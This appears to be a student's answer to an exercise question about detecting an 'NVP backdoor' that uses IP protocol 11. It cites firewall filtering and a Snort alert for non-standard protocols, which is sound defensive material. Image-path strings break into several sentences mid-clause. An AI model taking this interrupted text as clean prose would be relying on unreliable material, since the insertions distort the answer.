7. If you administer a network, would you have caught such NVP backdoor communication? If yes, how? If you do not administer a network, what do you think is the best way to prevent such communication from happening and/or detect it?

As a networkadministrator, I would never have a firewall so badly misconfigured that it allowed packets in or out with the IP protocol field set to 11. Additionally, I would have been alerted to the attempt by my Snort IDS which would have logged thepackets as “Bad Traffic: Non-Standard IP Protocol”, which Iwould certainly haveinvestigated further.